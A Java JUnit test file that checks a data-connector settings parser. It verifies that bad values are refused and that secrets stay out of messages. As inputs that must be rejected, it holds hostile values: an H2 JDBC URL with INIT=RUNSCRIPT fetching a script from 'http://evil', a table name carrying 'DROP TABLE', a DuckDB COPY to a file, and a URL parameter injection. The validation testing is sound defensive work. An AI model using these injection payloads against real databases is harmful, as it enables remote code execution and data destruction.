package vn.datafloor.integration.connect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Each kind's settings: what is required, what is refused, and that a secret never shows. */
class SourceSettingsTest {

    private static final String SECRET = "Mat-khau-rat-bi-mat-2026";

    private static Map<String, String> values(String... keysAndValues) {
        Map<String, String> values = new LinkedHashMap<>();
        for (int i = 0; i + 1 < keysAndValues.length; i += 2) {
            values.put(keysAndValues[i], keysAndValues[i + 1]);
        }
        return values;
    }

    private static SettingsException refusal(String kind, Map<String, String> values) {
        Throwable thrown = catchThrowable(() -> SourceConnectors.get(kind).parse(values));
        assertThat(thrown).isInstanceOf(SettingsException.class);
        return (SettingsException) thrown;
    }

    private static Object fields(SettingsException e) {
        return e.problems().stream().map(SettingsException.Problem::field).toList();
    }

    // --- csv

    @Test
    void csvNeedsAPathAndTakesAKnownEncodingAndOneCharacterDelimiters() {
        assertThat(SourceConnectors.get("csv")
                        .parse(values("path", "a.csv", "encoding", "Windows-1258", "delimiter", ";")))
                .isEqualTo(new CsvSettings("a.csv", "windows-1258", ";"));
        assertThat(new CsvSettings("a.csv", null, "\\t").delimiterChar()).isEqualTo('\t');
        assertThat(fields(refusal("csv", values()))).isEqualTo(java.util.List.of("path"));
        SettingsException bad = refusal("csv", values("path", "a.csv", "encoding", "latin-1", "delimiter", ";;"));
        assertThat(fields(bad)).isEqualTo(java.util.List.of("encoding", "delimiter"));
        assertThat(bad.problems()).allMatch(p -> p.reason() == SettingsException.Reason.INVALID);
    }

    // --- jsonl, parquet, xlsx

    @Test
    void fileKindsNeedAPath() {
        for (String kind : java.util.List.of("jsonl", "parquet", "xlsx")) {
            assertThat(fields(refusal(kind, values("path", " ")))).as(kind).isEqualTo(java.util.List.of("path"));
            assertThat(refusal(kind, values()).problems().get(0).reason()).isEqualTo(SettingsException.Reason.MISSING);
        }
        assertThat(SourceConnectors.get("xlsx").parse(values("path", "a.xlsx", "sheet", "Trang 1")))
                .isEqualTo(new XlsxSettings("a.xlsx", "Trang 1"));
        assertThat(fields(refusal("xlsx", values("path", "a.xlsx", "sheet", "x".repeat(101)))))
                .isEqualTo(java.util.List.of("sheet"));
    }

    // --- jdbc

    @Test
    void jdbcNeedsAnAllowedUrlAndEitherATableOrAQuery() {
        JdbcSettings ok = (JdbcSettings) SourceConnectors.get("jdbc")
                .parse(values(
                        "url",
                        "jdbc:postgresql://db.example/benhvien",
                        "user",
                        "doc",
                        "table",
                        "benh_nhan",
                        "watermark",
                        "cap_nhat"));
        assertThat(ok.timeoutSeconds()).isEqualTo(60);
        assertThat(ok.describe()).isEqualTo("benh_nhan");
        assertThat(fields(refusal("jdbc", values("table", "t")))).isEqualTo(java.util.List.of("url"));
        assertThat(fields(refusal("jdbc", values("url", "jdbc:postgresql://db.example/x"))))
                .isEqualTo(java.util.List.of("table"));
        assertThat(fields(refusal(
                        "jdbc", values("url", "jdbc:postgresql://db.example/x", "table", "t", "query", "SELECT 1"))))
                .isEqualTo(java.util.List.of("table"));
        assertThat(fields(refusal(
                        "jdbc",
                        values(
                                "url",
                                "jdbc:postgresql://db.example/x",
                                "table",
                                "t; DROP TABLE t",
                                "watermark",
                                "a b",
                                "timeout_seconds",
                                "soon"))))
                .isEqualTo(java.util.List.of("timeout_seconds", "table", "watermark"));
        assertThat(fields(refusal(
                        "jdbc", values("url", "jdbc:postgresql://db.example/x", "table", "t", "timeout_seconds", "0"))))
                .isEqualTo(java.util.List.of("timeout_seconds"));
    }

    @Test
    void jdbcRefusesEmbeddedDatabasesAndNonSelectQueriesAsSecurityProblems() {
        SettingsException h2 = refusal(
                "jdbc", values("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "query", "SELECT 1"));
        assertThat(h2.refusal()).isPresent();
        assertThat(h2.refusal().get().field()).isEqualTo("url");
        assertThat(h2.getMessage()).contains("not allowed");
        SettingsException copy =
                refusal("jdbc", values("url", "jdbc:duckdb:agency.duckdb", "query", "COPY t TO '/tmp/x.csv'"));
        assertThat(copy.refusal()).map(SettingsException.Problem::field).contains("query");
        assertThat(SourceConnectors.get("jdbc")
                        .parse(values("url", "jdbc:duckdb:agency.duckdb", "query", "SELECT * FROM people")))
                .isInstanceOf(JdbcSettings.class);
    }

    @Test
    void jdbcSecretsNeverShow() {
        SettingsException inUrl =
                refusal("jdbc", values("url", "jdbc:postgresql://db.example/x?password=" + SECRET, "table", "t"));
        assertThat(inUrl.problems())
                .extracting(SettingsException.Problem::reason)
                .contains(SettingsException.Reason.REFUSED);
        assertThat(inUrl.getMessage()).doesNotContain(SECRET);
        SettingsException semicolon =
                refusal("jdbc", values("url", "jdbc:sqlserver://db.example;password=" + SECRET, "table", "t"));
        assertThat(semicolon.getMessage()).doesNotContain(SECRET);
        assertThat(semicolon.problems())
                .extracting(SettingsException.Problem::reason)
                .contains(SettingsException.Reason.SECRET_IN_URL);
        JdbcSettings stored = (JdbcSettings) SourceConnectors.get("jdbc")
                .parse(values("url", "jdbc:postgresql://db.example/x", "table", "t", "credential", SECRET));
        assertThat(stored.credential()).isEqualTo(SECRET);
        assertThat(stored.toString()).doesNotContain(SECRET).contains("credential=(stored)");
        Setting credential = SourceConnectors.get("jdbc").settings().stream()
                .filter(Setting::secret)
                .findFirst()
                .orElseThrow();
        assertThat(credential.name()).isEqualTo("credential");
        assertThat(credential.supply()).isEqualTo(Setting.Supply.SECRET);
    }

    // --- http

    @Test
    void httpNeedsAnHttpUrlWithoutCredentialsAndPlainParameters() {
        HttpSettings ok = (HttpSettings) SourceConnectors.get("http")
                .parse(values(
                        "url",
                        "https://api.example/v1/people?region=01",
                        "page_parameter",
                        "page",
                        "items_field",
                        "data",
                        "max_pages",
                        "50"));
        assertThat(ok.maxPages()).isEqualTo(50);
        assertThat(ok.timeoutSeconds()).isEqualTo(30);
        assertThat(ok.describe()).isEqualTo("https://api.example/v1/people?…");
        assertThat(fields(refusal("http", values()))).isEqualTo(java.util.List.of("url"));
        assertThat(fields(refusal("http", values("url", "ftp://files.example/x"))))
                .isEqualTo(java.util.List.of("url"));
        assertThat(fields(refusal(
                        "http",
                        values("url", "https://api.example/x", "page_parameter", "page&admin=1", "max_pages", "-1"))))
                .isEqualTo(java.util.List.of("max_pages", "page_parameter"));
    }

    @Test
    void httpSecretsNeverShow() {
        SettingsException userInfo = refusal("http", values("url", "https://user:" + SECRET + "@api.example/x"));
        assertThat(userInfo.getMessage()).doesNotContain(SECRET);
        HttpSettings stored = (HttpSettings) SourceConnectors.get("http")
                .parse(values("url", "https://api.example/x?key=" + SECRET, "credential", SECRET));
        assertThat(stored.toString()).doesNotContain(SECRET);
        assertThat(stored.describe()).doesNotContain(SECRET);
        SettingsException badNumber =
                refusal("http", values("url", "https://api.example/x", "timeout_seconds", SECRET));
        assertThat(badNumber.getMessage()).doesNotContain(SECRET).contains("timeout_seconds");
    }
}
